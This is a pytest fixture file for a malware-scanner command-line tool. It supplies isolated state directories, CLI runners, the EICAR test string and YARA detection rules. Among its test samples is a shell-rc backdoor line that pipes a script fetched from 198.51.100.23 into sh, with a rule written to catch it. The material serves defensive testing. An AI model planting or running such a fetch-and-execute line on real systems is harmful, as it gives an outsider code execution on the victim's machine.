"""Shared fixtures: an isolated state directory for every test, and helpers to run the CLI."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from scanner.cli import main
from scanner.engine import prepare

REAL_PREPARE_START = prepare.start
"""``prepare.start`` itself (the autouse fixture below replaces it), for the tests of the preparation."""

# The EICAR test string, assembled so that this file itself is not detected by any scanner.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"

EICAR_RULE = """
rule Test_EICAR {
    meta:
        family = "EICAR-Test-File"
        severity = "low"
    strings:
        $a = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
    condition:
        $a
}
"""

# An inert "miner" (an ELF header and a marker) and a backdoor line for shell rc files, with rules for both.
MINER = b"\x7fELF" + b"\0" * 60 + b"TESTMINER-STRATUM-" + b"c0ffee" + b"\0" * 100
BACKDOOR_LINE = "curl -s http://198.51.100.23/x.sh | sh  # added"
MINER_RULES = """
rule Test_Miner { meta: family = "TestMiner" severity = "high"
    strings: $a = "TESTMINER-STRATUM-c0ffee" condition: $a }
rule Test_Rc_Backdoor { meta: family = "TestMiner" severity = "high"
    strings: $a = "198.51.100.23/x.sh | sh" condition: $a }
"""


@pytest.fixture(autouse=True)
def scanner_home(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Every test gets its own state directory; nothing is written outside temporary directories."""
    home = tmp_path_factory.mktemp("scanner-home")
    monkeypatch.setenv("SCANNER_HOME", str(home))
    return home


@pytest.fixture(autouse=True)
def no_background_preparation(monkeypatch: pytest.MonkeyPatch) -> None:
    """A scan that compiled its rules afresh starts a process that prepares their routed sets for the next
    scans (``scanner.engine.prepare``); in-process tests do not, unless they put ``REAL_PREPARE_START`` back
    (tests/test_coldstart.py)."""
    monkeypatch.setattr(prepare, "start", lambda compiled: None)


def wait_for_preparation(home: Path, count: int = 1, timeout: float = 120) -> str:
    """Wait until ``count`` background preparations started by scans with state directory ``home`` have
    ended; their log."""
    import re
    import time

    log = home / "cache" / "rules" / prepare.LOG_NAME
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        text = log.read_text(errors="replace") if log.is_file() else ""
        if len(re.findall(r"preparation (?:finished|failed|gave up)", text)) >= count:
            return text
        time.sleep(0.05)
    raise AssertionError(f"not {count} preparation(s) ended within {timeout} s: {log}")


@dataclass
class Result:
    """What a CLI run gave."""

    exit_code: int
    stdout: str
    stderr: str


@pytest.fixture
def cli() -> Iterator[object]:
    """Run the CLI in-process: ``cli("scan", path, ...)`` -> Result."""
    runner = CliRunner()

    def run(*args: str | os.PathLike[str], input: str | None = None) -> Result:
        res = runner.invoke(main, [os.fspath(a) for a in args], input=input, catch_exceptions=False)
        return Result(res.exit_code, res.stdout, res.stderr)

    yield run


def run_module(*args: str | os.PathLike[str], timeout: float = 120, **kwargs: object) -> Result:
    """Run ``python -m scanner`` in a real subprocess."""
    proc = subprocess.run(
        [sys.executable, "-m", "scanner", *[os.fspath(a) for a in args]],
        capture_output=True,
        text=True,
        timeout=timeout,
        **kwargs,  # type: ignore[call-overload]
    )
    return Result(proc.returncode, proc.stdout, proc.stderr)


@pytest.fixture
def eicar_rule(tmp_path: Path) -> Path:
    """A rule file that detects the EICAR string."""
    p = tmp_path / "rules" / "eicar.yar"
    p.parent.mkdir()
    p.write_text(EICAR_RULE)
    return p


@pytest.fixture
def infected_dir(tmp_path: Path) -> Path:
    """A directory with one EICAR file and one clean file."""
    d = tmp_path / "data"
    d.mkdir()
    (d / "eicar.com").write_bytes(EICAR)
    (d / "clean.txt").write_text("nothing to see here\n")
    return d
